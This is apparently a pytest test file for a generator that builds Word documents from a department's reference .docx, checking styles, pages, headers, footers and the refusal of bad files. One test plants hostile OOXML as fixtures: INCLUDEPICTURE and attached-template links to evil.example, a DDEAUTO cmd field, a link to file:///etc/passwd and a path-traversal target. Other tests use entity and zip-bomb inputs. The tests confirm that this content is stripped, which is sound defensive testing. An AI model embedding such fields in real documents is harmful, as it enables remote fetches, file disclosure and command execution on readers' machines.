"""A department's own Word file gives the document its styles, margins and pages; what is wrong with it is told."""

from __future__ import annotations

import io
import re
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import openxml_audit
import pytest
from docutils import nodes
from docx.shared import Mm

from generator.catalogue import document_format
from generator.docx_builder.reference import read_reference
from generator.docx_builder.writing import write_docx
from generator.errors import ReferenceDocumentError
from tests.docx_builder import cases, references
from tests.docx_builder.extract import Element, Extract, R, W
from tests.docx_builder.trees import document, paragraph, section, table

LONG = "Các cơ quan, đơn vị kết nối, chia sẻ dữ liệu qua nền tảng. "
MAKERS = {
    "plain": references.plain,
    "department": references.department,
    "numbered_footer": references.numbered_footer,
    "localised": references.localised,
    "numeric": references.numeric,
    "bare": references.bare,
}
CASES = ["headings", "tables", "landscape", "footnotes", "front", "lists", "decision", "letter"]


class Made:
    """A document written with a reference."""

    def __init__(self, path: Path, report: str, warnings: list[str]) -> None:
        self.path, self.report, self.warnings = path, report, warnings
        self.data = path.read_bytes()
        self.extract = Extract(self.data)
        self.opened = docx.Document(io.BytesIO(self.data))

    def style(self, style_id: str) -> Element:
        return next(each for each in self.extract.part("word/styles.xml") if each.get(f"{W}styleId") == style_id)

    def pages(self) -> list[dict[str, int]]:
        """Measures of every section's page in millimetres."""
        found = []
        for properties in self.extract.body().iter(f"{W}sectPr"):
            measures = {}
            for name in ("pgSz", "pgMar"):
                element = properties.find(f"{W}{name}")
                assert element is not None
                for key, twips in element.attrib.items():
                    if str(twips).isdecimal():
                        measures[str(key).removeprefix(W)] = round(int(twips) * 25.4 / 1440)
            found.append(measures)
        return found

    def margins(self, kind: str) -> list[tuple[str, str]]:
        """Type and text of every header or footer of every section, in order; "#" for the page's number."""
        found = []
        for reference in self.extract.body().iter(f"{W}{kind}Reference"):
            root = self.extract.part(f"word/{self.extract.targets[reference.get(f'{R}id', '')]}")
            text = "".join((each.text or "").replace(" PAGE ", "#") for each in root.iter(f"{W}t", f"{W}instrText"))
            found.append((reference.get(f"{W}type", ""), text))
        return found


Make = Callable[..., Made]


@pytest.fixture
def make(tmp_path: Path) -> Make:
    def make(reference: Path, tree: nodes.document | None = None) -> Made:
        tree = tree or document(section("I.", "Mục", section("1.", "Khoản", paragraph(LONG))))
        read = read_reference(reference, document_format())
        path = tmp_path / "made" / "Tài liệu.docx"
        path.parent.mkdir(exist_ok=True)
        warnings = write_docx(tree, path, form=document_format(), reference=read)
        return Made(path, read.report(), warnings)

    return make


def value(style: Element, path: str, attribute: str = "val") -> str | None:
    found = style.find("/".join(f"{W}{name}" for name in path.split("/")))
    return None if found is None else found.get(f"{W}{attribute}", "")


# --- styles -----------------------------------------------------------------------------------------------------------


def test_styles_look_as_in_the_reference(make: Make, tmp_path: Path) -> None:
    made = make(references.department(tmp_path / "mẫu.docx"))
    heading, body = made.opened.styles["Heading 1"], made.opened.styles["Body Text"]
    assert (heading.font.name, heading.font.size.pt, str(heading.font.color.rgb)) == ("Arial", 16, "1F4E9E")
    assert (body.font.name, body.font.size.pt) == ("Arial", 12)
    assert [value(each._p, "pPr/pStyle") for each in made.opened.paragraphs[-3:]] == [
        "Heading1",
        "Heading2",
        "BodyText",
    ]


def test_numbers_of_headings_are_ours_and_shown_once(make: Make, tmp_path: Path) -> None:
    made = make(references.numbered_footer(tmp_path / "mẫu.docx"))
    numbers = [made.style(f"Heading{level}").findall(f"{W}pPr/{W}numPr") for level in (1, 2)]
    assert [len(each) for each in numbers] == [1, 1]
    labels = re.findall(r"<list (\d+): (.*)>", made.extract.text())
    main = next(number for number, label in labels if "Heading1" in label)
    assert value(made.style("Heading1"), "pPr/numPr/numId") == value(made.style("Heading2"), "pPr/numPr/numId") == main
    assert "upperRoman “%1.” Heading1 | decimal “%2.” Heading2" in dict(labels)[main]


def test_heading_without_a_number_does_not_inherit_that_of_the_style_below(make: Make, tmp_path: Path) -> None:
    made = make(references.plain(tmp_path / "mẫu.docx"))
    title = made.style("TOCHeading")
    assert value(title, "basedOn") == "Heading1"
    lists = dict(re.findall(r"<list (\d+): (.*)>", made.extract.text()))
    assert lists[value(title, "pPr/numPr/numId") or ""] == "none"
    assert value(title, "pPr/outlineLvl") == "9"


def test_lists_of_other_styles_come_along(make: Make, tmp_path: Path) -> None:
    made = make(references.plain(tmp_path / "mẫu.docx"))
    lists = dict(re.findall(r"<list (\d+): (.*)>", made.extract.text()))
    assert lists[value(made.style("ListBullet"), "pPr/numPr/numId") or ""].startswith("bullet")
    assert lists[value(made.style("ListNumber"), "pPr/numPr/numId") or ""].startswith("decimal")


@pytest.mark.parametrize("maker", [references.localised, references.numeric])
def test_styles_are_known_by_name_whatever_their_ids(maker: Callable[[Path], Path], make: Make, tmp_path: Path) -> None:
    made = make(maker(tmp_path / "mẫu.docx"))
    names = [each.name for each in made.opened.styles]
    assert len(names) == len({name.casefold() for name in names})
    heading = made.opened.styles["Heading 1"]
    assert (heading.style_id, heading.font.name, str(heading.font.color.rgb)) == ("Heading1", "Verdana", "C00000")
    assert made.opened.styles["Heading 2"].base_style.name == "Normal"
    header = made.extract.part("word/header1.xml")
    assert {each.get(f"{W}val") for each in header.iter(f"{W}pStyle")} == {"Heading2"}


def test_chain_of_styles_that_leads_back_to_itself_is_broken(make: Make, tmp_path: Path) -> None:
    path = references.plain(tmp_path / "mẫu.docx")
    old = '<w:name w:val="Body Text"/><w:basedOn w:val="Normal"/>'
    references.with_part(path, "word/styles.xml", old, old.replace('"Normal"', '"BodyText2"'))
    old = '<w:name w:val="Body Text 2"/><w:basedOn w:val="Normal"/>'
    references.with_part(path, "word/styles.xml", old, old.replace('"Normal"', '"BodyText"'))
    made = make(path)
    seen: list[str | None] = []
    style = made.opened.styles["Body Text"]
    while style is not None and len(seen) < 9:
        seen.append(style.name)
        style = style.base_style
    assert len(seen) < 9


def test_missing_styles_are_added_and_named_in_one_sentence(make: Make, tmp_path: Path) -> None:
    path = references.plain(tmp_path / "mẫu.docx")
    references.with_part(path, "word/styles.xml", '<w:name w:val="heading 2"/>', '<w:name w:val="Riêng"/>')
    references.with_part(path, "word/styles.xml", 'w:styleId="Heading2"', 'w:styleId="Rieng"')
    made = make(path)
    assert made.report == (
        "mẫu.docx: it has no style Heading 2, TOC 1, TOC 2; added in the official format, to be shaped in that file."
    )
    assert value(made.style("Heading2"), "rPr/b") == ""
    assert made.opened.styles["Riêng"] is not None


def test_added_styles_keep_their_relation_to_the_size_of_the_text(make: Make, tmp_path: Path) -> None:
    made = make(references.department(tmp_path / "mẫu.docx"), document(section("I.", "Mục", table(["a"], [["b"]]))))
    assert made.opened.styles["Kientruc Cell"].font.size.pt == 10.5  # 12 of 14, for a text of 12
    assert value(made.style("kientrucCell"), "pPr/ind", "firstLine") == "0"


def test_text_of_a_file_that_writes_in_normal_looks_like_normal(make: Make, tmp_path: Path) -> None:
    path = tmp_path / "mẫu.docx"
    made = docx.Document()
    made.styles.element.remove(made.styles["Body Text"].element)
    made.styles["Normal"].paragraph_format.first_line_indent = Mm(12.7)
    made.styles["Normal"].paragraph_format.line_spacing = 1.5
    made.save(str(path))
    written = make(path)
    assert value(written.style("BodyText"), "pPr/ind", "firstLine") is None
    assert value(written.style("kientrucCell"), "pPr/ind", "firstLine") == "0"
    assert "Body Text" in written.report


def test_language_stays_that_of_the_document(make: Make, tmp_path: Path) -> None:
    made = make(references.plain(tmp_path / "mẫu.docx"))
    tags = {each.get(f"{W}val") for each in made.extract.part("word/styles.xml").iter(f"{W}lang")}
    assert tags == {"vi-VN"}


# --- pages and margins ------------------------------------------------------------------------------------------------


def test_pages_are_those_of_the_reference_and_tables_fit_them(make: Make, tmp_path: Path) -> None:
    made = make(references.numbered_footer(tmp_path / "mẫu.docx"), cases.landscape())
    assert {(each["w"], each["h"]) for each in made.pages()} == {(297, 420), (420, 297)}
    turned = next(each for each in made.pages() if each["w"] > each["h"])
    assert turned["left"] == 40
    room = round((turned["w"] - turned["left"] - turned["right"]) * 1440 / 25.4)
    for each in made.extract.body().iter(f"{W}tbl"):
        columns = [int(column.get(f"{W}w", "")) for column in each.iter(f"{W}gridCol")]
        assert sum(columns) <= room + len(columns)


def test_landscape_pages_are_the_portrait_ones_turned_where_the_reference_has_none(make: Make, tmp_path: Path) -> None:
    made = make(references.department(tmp_path / "mẫu.docx"), cases.landscape())
    turned = next(each for each in made.pages() if each["w"] > each["h"])
    assert (turned["w"], turned["top"], turned["right"], turned["left"]) == (297, 25, 32, 25)


def test_header_and_footer_are_theirs_with_picture_and_link_and_our_number(make: Make, tmp_path: Path) -> None:
    made = make(references.department(tmp_path / "mẫu.docx"))
    headers, footers = made.margins("header"), made.margins("footer")
    assert headers == [
        ("default", "  SỞ KHOA HỌC VÀ CÔNG NGHỆ"),  # the lists
        ("default", "  SỞ KHOA HỌC VÀ CÔNG NGHỆ#2"),
        ("first", "  SỞ KHOA HỌC VÀ CÔNG NGHỆ"),
    ]
    assert footers[0][1].endswith("0222 000 000 - skhcn.example.vn")
    names = made.extract.package.namelist()
    assert "word/media/image1.png" in names
    relations = made.extract.package.read("word/_rels/footer1.xml.rels").decode()
    assert 'Target="https://skhcn.example.vn" TargetMode="External"' in relations


def test_number_of_theirs_is_not_doubled_and_lists_count_in_roman(make: Make, tmp_path: Path) -> None:
    made = make(references.numbered_footer(tmp_path / "mẫu.docx"))
    assert made.margins("header") == [
        ("default", ""),  # the picture of their first page, on the cover
        ("default", "Trang lẻ"),
        ("even", "Trang chẵn"),
    ]
    assert made.margins("footer") == [("default", "Chân trang đầu"), ("default", "Trang #2"), ("even", "Trang #2")]
    assert made.extract.part("word/settings.xml").find(f"{W}evenAndOddHeaders") is not None
    formats = [each.get(f"{W}fmt") for each in made.extract.body().iter(f"{W}pgNumType")]
    assert formats == ["lowerRoman", None]


def test_paper_without_cover_begins_with_their_first_page(make: Make, tmp_path: Path) -> None:
    made = make(references.numbered_footer(tmp_path / "mẫu.docx"), cases.CASES["letter"]())
    assert ("first", "Chân trang đầu") in made.margins("footer")
    assert made.opened.sections[0].different_first_page_header_footer


def test_our_page_number_stays_where_the_reference_has_no_margins(make: Make, tmp_path: Path) -> None:
    made = make(references.plain(tmp_path / "mẫu.docx"))
    assert made.margins("header") == [("default", "#2"), ("first", "")]
    assert made.margins("footer") == []


# --- what stays behind ------------------------------------------------------------------------------------------------


def test_what_reaches_outside_of_the_file_is_not_taken_over(make: Make, tmp_path: Path) -> None:
    path = references.department(tmp_path / "mẫu.docx")
    evil = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://evil.example/a" '
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>hiện</w:t></w:r><w:r><w:fldChar '
        'w:fldCharType="end"/></w:r><w:fldSimple w:instr="DDEAUTO cmd"><w:r><w:t>lệnh</w:t></w:r></w:fldSimple>'
        '<w:hyperlink r:id="rIdEvil" xmlns:r="' + references.R + '"><w:r><w:t>tệp</w:t></w:r></w:hyperlink>'
        '<w:bookmarkStart w:id="0" w:name="x"/><w:bookmarkEnd w:id="0"/>'
        '<w:ins w:id="1" w:author="a"><w:r><w:t>thêm</w:t></w:r></w:ins>'
        '<w:del w:id="2" w:author="a"><w:r><w:delText>bỏ</w:delText></w:r></w:del>'
        "<w:sdt><w:sdtPr><w:dataBinding w:storeItemID='{0}' w:xpath='/a'/></w:sdtPr><w:sdtContent><w:r><w:t>ô</w:t>"
        "</w:r>"
        "</w:sdtContent></w:sdt></w:p></w:ftr>"
    )
    references.with_part(path, "word/footer1.xml", "</w:ftr>", evil)
    link = (
        f'<Relationship Id="rIdEvil" Type="{references.OFFICE}/hyperlink" Target="file:///etc/passwd" '
        'TargetMode="External"/></Relationships>'
    )
    references.with_part(path, "word/_rels/footer1.xml.rels", "</Relationships>", link)
    references.with_part(
        path, "word/_rels/header1.xml.rels", 'Target="media/', 'TargetMode="External" Target="http://evil.example/'
    )
    template = (
        f'<Relationship Id="rIdT" Type="{references.OFFICE}/attachedTemplate" Target="http://evil.example/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    template = f'<Relationships xmlns="{references.PACKAGE}/relationships">{template}'
    references.changed(path, lambda _name, data: data, {"word/_rels/settings.xml.rels": template.encode()})
    made = make(path)
    everything = b"".join(made.extract.package.read(name) for name in made.extract.package.namelist())
    for word in (b"evil", b"INCLUDEPICTURE", b"DDEAUTO", b"passwd", b"dataBinding", b"delText", b"attachedTemplate"):
        assert word not in everything
    assert made.margins("footer")[0][1].endswith("hiệnlệnhtệpthêmô")
    assert made.margins("header")[0][1] == "  SỞ KHOA HỌC VÀ CÔNG NGHỆ"
    assert _findings(made.path) == []


def _findings(path: Path) -> list[str]:
    return [str(error) for error in openxml_audit.OpenXmlValidator().validate(path).errors]


@pytest.mark.parametrize("name", MAKERS)
@pytest.mark.parametrize("case", CASES)
def test_validator_finds_nothing_and_bytes_are_the_same_again(name: str, case: str, make: Make, tmp_path: Path) -> None:
    reference = MAKERS[name](tmp_path / "mẫu.docx")
    made = make(reference, cases.CASES[case]())
    assert _findings(made.path) == []
    assert make(reference, cases.CASES[case]()).data == made.data
    sheet = made.extract.part("word/styles.xml")
    known = {style.get(f"{W}styleId") for style in sheet.iterfind(f"{W}style")}
    bases = {each.get(f"{W}val") for tag in ("basedOn", "next", "link") for each in sheet.iter(f"{W}{tag}")}
    used = {
        each.get(f"{W}val")
        for tag in ("pStyle", "rStyle", "tblStyle")
        for each in made.extract.body().iter(f"{W}{tag}")
    }
    assert bases | used <= known


# --- bad files --------------------------------------------------------------------------------------------------------


def refusal(path: Path) -> str:
    with pytest.raises(ReferenceDocumentError) as caught:
        read_reference(path, document_format())
    message = str(caught.value)
    assert message.startswith(f"{path}: ")
    assert "\n" not in message
    return message.removeprefix(f"{path}: ")


def test_missing_file_folder_and_other_kinds_are_refused(tmp_path: Path) -> None:
    assert refusal(tmp_path / "không có.docx").startswith("there is no such file")
    assert refusal(tmp_path).startswith("is a folder")
    for name, begins in (
        ("a.doc", "docx_reference takes only .docx and .dotx"),
        ("a.odt", "docx_reference takes only .docx and .dotx"),
        ("a.docm", "may hold macros"),
        ("a.dotm", "may hold macros"),
        ("a.docx", "is no Word file"),
    ):
        (tmp_path / name).write_bytes(b"something else")
        assert refusal(tmp_path / name).startswith(begins)
    (tmp_path / "b.docx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512))
    assert refusal(tmp_path / "b.docx").startswith("is protected by a password")


def test_template_without_macros_is_taken(make: Make, tmp_path: Path) -> None:
    path = references.plain(tmp_path / "mẫu.dotx")
    references.with_part(
        path, "[Content_Types].xml", "wordprocessingml.document.main", "wordprocessingml.template.main"
    )
    assert make(path).opened.paragraphs


def test_macros_under_another_name_workbooks_and_strict_files_are_refused(tmp_path: Path) -> None:
    path = references.plain(tmp_path / "a.docx")
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    references.with_part(path, "[Content_Types].xml", kind, "application/vnd.ms-word.document.macroEnabled.main+xml")
    assert refusal(path).startswith("may hold macros")
    path = references.bare(tmp_path / "b.docx")
    references.with_part(path, "word/document.xml", "w:document", "w:workbook")
    assert refusal(path).startswith("is no Word file")
    path = references.bare(tmp_path / "c.docx")
    references.with_part(path, "word/document.xml", references.W, "http://purl.oclc.org/ooxml/wordprocessingml/main")
    assert refusal(path).startswith("is a Strict Open XML document")


def test_damaged_file_is_refused(tmp_path: Path) -> None:
    path = references.department(tmp_path / "a.docx")
    whole = path.read_bytes()
    for length in (len(whole) // 2, 40):
        path.write_bytes(whole[:length])
        assert refusal(path).startswith("is damaged")
    path.write_bytes(whole)
    references.with_part(path, "word/header1.xml", "</w:hdr>", "</w:ftr>")
    assert refusal(path).startswith("is damaged (word/header1.xml)")
    place = whole.index(b"word/styles.xml") + 200
    path.write_bytes(whole[:place] + bytes(300) + whole[place + 300 :])
    assert refusal(path).startswith("is damaged")


def test_entities_bombs_and_pages_without_room_are_refused(tmp_path: Path) -> None:
    path = references.bare(tmp_path / "a.docx")
    references.with_part(path, "word/document.xml", "<w:document", '<!DOCTYPE x [<!ENTITY a "b">]><w:document')
    assert refusal(path).startswith("word/document.xml declares XML entities")
    path = references.changed(references.bare(tmp_path / "b.docx"), lambda _n, d: d, {"word/x.xml": bytes(30_000_000)})
    assert refusal(path).startswith("unpacks to 30 MB")
    path = references.bare(tmp_path / "c.docx")
    references.with_part(path, "word/document.xml", 'w:left="1800"', 'w:left="7000"')
    assert refusal(path).startswith("its pages leave 61 x ")


@pytest.mark.parametrize(
    "part", ["word/styles.xml", "word/settings.xml", "word/theme/theme1.xml", "word/numbering.xml"]
)
def test_file_without_one_of_its_parts_is_taken(part: str, make: Make, tmp_path: Path) -> None:
    path = references.changed(
        references.plain(tmp_path / "a.docx"), lambda name, data: None if name == f"word/{part}" else data
    )
    assert _findings(make(path).path) == []


def test_names_of_parts_that_lead_outside_are_not_followed(make: Make, tmp_path: Path) -> None:
    path = references.department(tmp_path / "a.docx")
    references.with_part(path, "word/_rels/header1.xml.rels", "media/", "../../../../etc/")
    made = make(path)
    assert not [name for name in made.extract.package.namelist() if "media" in name]


# --- LibreOffice ------------------------------------------------------------------------------------------------------


@pytest.mark.word
@pytest.mark.slow
def test_file_of_libreoffice_is_taken_and_the_result_opens_there(
    make: Make, tmp_path: Path, to_pdf: Callable[[Path], Path]
) -> None:
    program = shutil.which("soffice")
    assert program is not None
    made = make(references.libreoffice(tmp_path / "mẫu.docx", program), cases.headings())
    assert _findings(made.path) == []
    assert to_pdf(made.path).stat().st_size > 1000


@pytest.mark.word
@pytest.mark.slow
def test_page_numbers_show_on_lists_and_text(make: Make, tmp_path: Path, to_pdf: Callable[[Path], Path]) -> None:
    from tests.docx_builder.test_in_libreoffice import text_of

    made = make(references.numbered_footer(tmp_path / "mẫu.docx"), cases.landscape())
    pages = text_of(to_pdf(made.path)).split("\f")[:-1]
    shown = [match[1] for page in pages if (match := re.search(r"^\s*Trang (\d+|[ivx]+)\s*$", page, re.MULTILINE))]
    assert shown[:5] == ["i", "ii", "1", "2", "3"]


def test_package_of_the_reference_itself_is_left_alone(make: Make, tmp_path: Path) -> None:
    path = references.department(tmp_path / "mẫu.docx")
    before = path.read_bytes()
    make(path)
    assert path.read_bytes() == before
    assert zipfile.is_zipfile(path)
